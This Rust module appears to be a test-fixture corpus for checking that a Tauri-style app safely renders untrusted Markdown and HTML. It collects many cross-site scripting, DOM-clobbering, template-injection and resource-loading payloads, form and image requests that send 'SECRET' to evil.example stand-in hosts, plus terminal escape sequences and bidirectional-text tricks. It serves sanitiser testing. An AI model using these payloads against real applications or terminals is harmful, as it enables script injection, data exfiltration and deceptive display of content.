//! Everything by which content is known to make a page load, run or hide something, with hosts that tell which it was.

/// Short enough for a name, a title or a label.
pub(crate) const SHORT: &str = "<img src=x onerror=window.probe=1> ![x](https://short.evil.example/i.png) <script>window.probe=2</script>";

/// The same as the name of a file or folder: no slash is in it.
pub(crate) const NAME: &str = "\u{202e}\"><img src=x onerror=window.probe=3><svg onload=probe=4>";

/// All of it, from that place.
#[allow(
    clippy::many_single_char_names,
    reason = "one letter for each host, in the order of the cases"
)]
pub(crate) fn all(place: &str) -> String {
    let host = |id: &str| format!("https://{id}-{place}.evil.example");
    let (a, b, c, d, e, f) = (
        host("w01"),
        host("w02"),
        host("w03"),
        host("w04"),
        host("w05"),
        host("w06"),
    );
    let (g, h, i, j, k, l) = (
        host("w07"),
        host("w08"),
        host("w09"),
        host("w10"),
        host("w11"),
        host("w12"),
    );
    let (m, n, o) = (host("w13"), host("w14"), host("w15"));
    let bare = d.trim_start_matches("https:").to_owned();
    let parts = [
        format!("![x]({a}/?d=SECRET) ![x](<{a}/?d=a b>) [![x]({a}/in-a-link.png)]({a}/)"),
        format!("<img src=\"{b}/i.png\"> <img src={b}/i.png srcset=\"{b}/2.png 2x\" loading=eager>"),
        format!("![x][ref] ![ref]\n\n[ref]: {c}/i.png \"title\""),
        format!("![]({bare}/i.png) <img src=\"{bare}/i.png\"> <{d}/auto.png> {d}/bare.png"),
        format!(
            "<picture><source srcset=\"{e}/i.webp\"><img src=\"{e}/i.png\"></picture> <video poster=\"{e}/p.png\" src=\"{e}/v.mp4\" autoplay></video>"
        ),
        format!(
            "<style>@import url({f}/s.css); body {{ background: url({f}/b.png) }}</style> <p style=\"background:url({f}/p.png)\">x</p> <table background=\"{f}/t.png\"></table>"
        ),
        format!(
            "<link rel=prefetch href=\"{g}/\"><link rel=dns-prefetch href=\"{g}\"><link rel=preconnect href=\"{g}\"><link rel=stylesheet href=\"{g}/s.css\"><link rel=preload as=image href=\"{g}/i.png\">"
        ),
        format!("<a href=\"#\" ping=\"{h}/ping\">x</a> <a id=__TAURI_INTERNALS__ href=\"{h}/\">x</a>"),
        format!(
            "<svg><image href=\"{i}/i.png\"/><use href=\"{i}/u.svg#x\"/><feImage href=\"{i}/f.png\"/><script>window.probe=5</script></svg>"
        ),
        format!(
            "```mermaid\ngraph TD\nA[\"<img src='{j}/i.png'>\"] --> B\nclick A \"{j}/\" _self\n```\n\n$\\includegraphics{{{j}/i.png}}$ $$\\href{{javascript:window.probe=6}}{{x}}$$"
        ),
        format!(
            "<meta http-equiv=refresh content=\"0;url={k}/\"><base href=\"{k}/\"><meta http-equiv=Link content=\"<{k}/>; rel=preload\">"
        ),
        format!(
            "<form action=\"{l}/\" id=f><input name=d value=SECRET></form><script>f.submit()</script><button formaction=\"{l}/\">x</button>"
        ),
        format!(
            "<iframe srcdoc=\"<img src='{m}/i.png'><script>parent.probe=7</script>\"></iframe><iframe src=\"{m}/\"></iframe><object data=\"{m}/\"></object><embed src=\"{m}/\"><frameset><frame src=\"{m}/\"></frameset>"
        ),
        format!(
            "[a link]({n}/page) [another]({n}/favicon.ico) <{n}/> [titled]({n}/ \"<img src={n}/t.png>\")"
        ),
        scripts(&o),
        hidden(&o),
    ];
    parts.join("\n\n")
}

fn scripts(host: &str) -> String {
    [
        "<script>window.probe=8</script><script src=\"HOST/x.js\"></script>",
        "<img src=x onerror=window.probe=9><body onload=window.probe=10><details open ontoggle=window.probe=11>",
        "[x](javascript:window.probe=12) [x](JaVaScRiPt:window.probe=13) [x](&#106;avascript:window.probe=14)",
        "[x](java\u{a0}script:window.probe=15) [x](vbscript:probe) [x](data:text/html,<script>window.probe=16</script>)",
        "<svg><animate onbegin=window.probe=17 attributeName=x dur=1s><set onbegin=window.probe=18 /></svg>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=window.probe=19&gt;\">",
        "<noscript><p title=\"</noscript><img src=x onerror=window.probe=20>\">",
        "<a id=__TAURI_INTERNALS__><a id=__TAURI_INTERNALS__ name=invoke href=HOST>x</a><form name=body><input name=children></form>",
        "<template><img src=HOST/t.png></template><marquee onstart=window.probe=21>x</marquee>",
        "{{constructor.constructor('window.probe=22')()}} ${window.probe=23} {@html '<img src=x onerror=window.probe=24>'}",
        "```html\n<script>window.probe=25</script><img src=HOST/code.png>\n```",
        "| <img src=HOST/cell.png> | ![x](HOST/cell.png) |\n|---|---|\n| <script>window.probe=26</script> | `<img src=x onerror=window.probe=27>` |",
        "- [ ] <img src=x onerror=window.probe=28>\n\n> <iframe src=HOST></iframe>\n\n# <svg onload=window.probe=29>",
    ]
    .join("\n\n")
    .replace("HOST", host)
}

fn hidden(host: &str) -> String {
    format!(
        "\u{1b}[2K\u{1b}[1Als \u{1b}]8;;{host}/osc8\u{7}click\u{1b}]8;;\u{7} \u{1b}]52;c;c2VjcmV0\u{7} \u{1b}]0;title\u{7} \u{9b}2J\n\n\
         shown\rtouch x\n\n\
         turned \u{202e}gnp.tset\u{202c} isolated \u{2066}x\u{2069} tags \u{e0041}\u{e0042} soft\u{ad}hyphen zero\u{200b}width\n\n\
         `code \u{202e}x\u{2066}` **bold \u{202e}x** [link \u{202e}x]({host}/\u{202e}x)"
    )
}
